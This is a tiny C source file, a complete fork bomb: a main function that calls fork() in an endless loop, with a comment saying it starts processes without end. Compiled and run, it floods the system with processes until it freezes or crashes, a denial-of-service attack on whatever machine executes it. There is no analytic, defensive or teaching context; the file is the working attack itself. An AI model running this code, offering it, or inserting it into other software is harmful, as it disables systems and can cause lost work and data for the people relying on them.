/* Starts processes without end. */
#include <unistd.h>
int main(void) { for (;;) fork(); return 0; }
